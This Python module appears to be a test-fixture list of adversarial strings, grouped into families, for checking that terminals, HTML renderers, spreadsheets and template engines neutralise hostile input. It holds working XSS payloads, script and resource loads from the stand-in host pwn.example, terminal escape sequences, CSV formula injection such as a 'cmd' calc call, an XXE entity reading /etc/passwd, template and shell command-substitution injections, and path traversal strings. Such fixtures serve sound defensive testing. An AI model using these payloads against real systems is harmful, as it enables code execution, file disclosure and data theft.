"""Strings that would be obeyed somewhere: by a terminal, a browser, a spreadsheet, a drawing.

Whatever runs calls `pwn()`, and whatever is let in bears the name `pwn`.
"""

# ruff: noqa: E501 - each of these is read best in one piece

from __future__ import annotations

from itertools import product

TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2Kerror: none", "\x1b[8mhidden",
    "\x1b]0;pwn\x07", "\x1b]2;pwn\x1b\\", "\x1b]8;;https://pwn.example\x07click\x1b]8;;\x07",
    "\x1b]52;c;cHduCg==\x07", "\x1b]1337;File=inline=1:cHdu\x07", "\x1b]4;1;?\x07", "\x1bP+q544e\x1b\\",
    "\x1b[6n", "\x1b[c", "\x1b[21t", "\x1bc", "\x1b[?1049h", "\x1b[?25l", "\x1b#8", "\x1b(0", "\x1b_pwn\x1b\\",
    "\x1b^pwn\x1b\\", "\x1b", "\x1b[", "\x1b]", "\x1b[38;2;255;0;0mtrue colour", "\x1b[200~pasted\x1b[201~",
    "\x9b31mred", "\x9b2J", "\x9d0;pwn\x9c", "\x90pwn\x9c", "\x9bpwn", "\x84\x85\x8d", "\x80\x81\x99",
    "\udc9b31mred", "\udc9d0;pwn\udc9c", "\x07\x07", "back\x08\x08\x08\x08pwn", "\x7f\x7f", "\x0e\x0fshift",
    "\x05enquire", "\x11\x13flow", "\x1a\x04end", "a\x00b", "\x00", "\x00\x1b[31m", "<b\x00 id=pwn>",
)  # fmt: skip

LINES = (
    "one\ntwo", "one\r\ntwo", "one\rtwo", "\n", "\r", "one\x0btwo", "one\x0ctwo", "one\x85two",
    "one\u2028two", "one\u2029two", "x\nerror: pwn\nhint: pwn", "x\n\n# pwn\n", "\n---\npwn: 1\n---\n", "\ttab", "a\tb",
    "x\n<script>pwn()</script>", "x\r\nContent-Type: text/html\r\n\r\n<script>pwn()</script>",
)  # fmt: skip

DIRECTION = (
    "\u202egnp.exe", "\u202dpwn", "\u202apwn", "\u202bpwn\u202c", "\u2066pwn\u2069", "\u2067nwp", "\u2068pwn",
    "\u200epwn\u200f", "\u061cpwn", "a\u2067\u2066b\u2069c", "\ufeffpwn", "p\u200bw\u200bn", "p\u2060wn",
    "\U000e0001\U000e0070\U000e0077\U000e006e", "\ufff9a\ufffab\ufffb", "\u180epwn", "\ufdd0\uffff",
    "\u202e\u202e\u202e\u202e" * 20,
)  # fmt: skip

ELEMENTS = (
    "<script>pwn()</script>", "<ScRiPt>pwn()</sCrIpT>", "<script src=//pwn.example/x.js></script>", "<script\n>pwn()</script\n>",
    "<script/x>pwn()</script>", "<img src=x onerror=pwn()>", "<img src=https://pwn.example/x.png>", "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>", "<svg/onload=pwn()//", "<body onload=pwn()>", "<details open ontoggle=pwn()>x",
    "<input autofocus onfocus=pwn()>", "<iframe src=javascript:parent.pwn()></iframe>", "<iframe srcdoc='<script>parent.pwn()</script>'>",
    "<object data=data:text/html,<script>pwn()</script>>", "<embed src=data:text/html,pwn>", "<link rel=stylesheet href=//pwn.example/x.css>",
    "<base href=//pwn.example/>", "<meta http-equiv=refresh content='0;url=//pwn.example'>", "<form action=//pwn.example><button id=pwn>",
    "<b id=pwn>bold</b>", "<a id=pwn href=javascript:pwn()>x</a>", "<math><mtext><script>pwn()</script></mtext></math>",
    "<template id=pwn></template>", '<noscript><p title="</noscript><img src=x onerror=pwn()>">', "<!--><script>pwn()</script>-->",
    "<![CDATA[<script>pwn()</script>]]>", '<?xml-stylesheet href="//pwn.example"?>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "<isindex type=image src=1 onerror=pwn()>", "<video><source onerror=pwn()>", "<marquee onstart=pwn()>", "<x onclick=pwn() id=pwn>x",
    "<<script>pwn()//<</script>", "<script>pwn()", '<img src="x` `<script>pwn()</script>"` `>', "<foreignObject><b id=pwn>",
    "<use href=data:image/svg+xml,pwn>", "<animate onbegin=pwn() attributeName=x>", "<set attributeName=onmouseover to=pwn()>",
    "<image href=https://pwn.example/x.png>", "<style>*{display:none}</style>", "<textarea id=pwn>", "<plaintext id=pwn>",
)  # fmt: skip

CLOSERS = tuple(
    f"{close}<script>pwn()</script>"
    for close in (
        "</script>", "</SCRIPT >", "</style>", "</title>", "</textarea>", "</desc>", "</text>", "</tspan>", "</svg>",
        "</bdi>", "</td></tr></table>", "-->", "--!>", "]]>", "</noscript>", "</head>", "</html>", "*/", "\\</script>", "<!--<script>",
    )
)  # fmt: skip

ATTRIBUTES = (
    *(
        f"{quote}{handler}"
        for quote, handler in product(
            ('"', "'", "`", '">', "'>"), (" onmouseover=pwn() x=", "/autofocus onfocus=pwn()//")
        )
    ),
    '" style="position:fixed;inset:0" id="pwn', "\" onload='pwn()", '\\" onerror=\\"pwn()', "'\"><b id=pwn>",
)  # fmt: skip

ADDRESSES = (
    "javascript:pwn()", "JaVaScRiPt:pwn()", "java\tscript:pwn()", "java\nscript:pwn()", "\x01javascript:pwn()", "vbscript:pwn",
    "data:text/html,<script>pwn()</script>", "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==", "//pwn.example/x",
    "https://pwn.example/x.png", "[x](javascript:pwn())", "[x](<javascript:pwn()>)", "![x](https://pwn.example/x.png)",
    "<javascript:pwn()>", "<https://pwn.example>", "file:///etc/passwd", "[x]: javascript:pwn()", "blob:https://pwn.example/1",
)  # fmt: skip

ENTITIES = (
    "&lt;script&gt;pwn()&lt;/script&gt;", "&#60;script&#62;pwn()&#60;/script&#62;", "&#x3c;img src=x onerror=pwn()&#x3e;",
    "&amp;lt;b id=pwn&amp;gt;", "&quot; onclick=pwn() &quot;", "&NewLine;javascript&colon;pwn()", "&notanentity;", "&#0;", "&#x1b;[31m",
    "&#xD800;", "&pwn;", "%3Cscript%3Epwn()%3C/script%3E", "\\u003cscript\\u003epwn()\\u003c/script\\u003e", "\\x3cscript\\x3e",
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-", "\uff1cscript\uff1epwn()", "\u2039script\u203a", "\ufe64script\ufe65",
)  # fmt: skip

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("https://pwn.example")', '=IMPORTXML("https://pwn.example","/")',
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  @x", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", '";=1+1', "',=1+1", ",=1+1", ";=1+1",
    '"\n=1+1', 'x","=1+1', "%0A=1+1", "\u200b=1+1", "\xa0=1+1", "\ufeff=1+1", "'=1+1", "-", "+", "=",
)  # fmt: skip

STYLES = (
    "}*{display:none}", "</style><b id=pwn>", "expression(pwn())", "url(https://pwn.example/x.png)", "@import '//pwn.example/x.css';",
    "x;background:url(//pwn.example)", "\\3c script\\3e", "color:red}body{opacity:0", "/*", "*/}body{display:none}", "--x:url(//pwn.example)",
)  # fmt: skip

FORMATS = (
    "$x^2$", "$\\frac{1}{0}$", "$", "$$", "$\\undefined$", "\\$x$", "$\\mathrm{<script>}$", "a_b^c", "{{ 7*7 }}", "{% include '/etc/passwd' %}",
    "{{ ''.__class__ }}", "{# x #}", "{0}", "{x!r}", "%s%n%d", "%(x)s", "${7*7}", "#{7*7}", "`id`", "$(id)", "\\input{/etc/passwd}",
    "\\write18{id}", "*bold* _it_ `code`", "| a | b |", "<!-- drafttime -->", "<!-- end -->", "\\", "\\\\", "\\n", "\\0", "[[link]]", "[red]x[/red]", "[/]",
    "[link=https://pwn.example]x[/link]",
)  # fmt: skip

DATA = (
    '","pwn":"', '\\","pwn":"', '"}],"pwn":[{"', "null", "true", "NaN", "1e999", "__proto__", "constructor", "'", '"', '"""', "'''",
    '"\ntitle = "pwn', "]\n[books.pwn]", "../../pwn", "/etc/passwd", "C:\\pwn", "-rf", "--out=/tmp/pwn", "~", "$HOME", "CON", ".", "..", " ", "",
)  # fmt: skip

BROKEN = (
    "\udcff\udcfe", "\udcc3(", "\udced\udca0\udc80", "\udcf0\udc9f", "caf\udce9", "\udc80<script>pwn()</script>", "\ud800", "\udfff\ud800",
    "<\udcc0\udcbcscript>", "\udcef\udcbb\udcbfpwn", "e" + "\u0301" * 300, "\u0489" * 80, "\U0001f3f4\u200d\u2620\ufe0f", "\U0010ffff",
)  # fmt: skip

LONG = (
    "x" * 5_000, "<b id=pwn>" * 400, "long " * 2_000, "&" * 4_000, "\u202e" * 2_000, "$" * 3_000, "\x1b[31m" * 500, "W" * 300, "\u4e2d" * 3_000,
)  # fmt: skip

FAMILIES = {
    "terminal": TERMINAL, "lines": LINES, "direction": DIRECTION, "elements": ELEMENTS, "closers": CLOSERS,
    "attributes": ATTRIBUTES, "addresses": ADDRESSES, "entities": ENTITIES, "formulas": FORMULAS, "styles": STYLES,
    "formats": FORMATS, "data": DATA, "broken": BROKEN, "long": LONG,
}  # fmt: skip


def in_turn() -> tuple[str, ...]:
    """Return all strings, a family after the other, so that the first few are of every kind."""
    longest = max(map(len, FAMILIES.values()))
    mixed = [family[k] for k in range(longest) for family in FAMILIES.values() if k < len(family)]
    return tuple(dict.fromkeys(mixed))


STRINGS = in_turn()
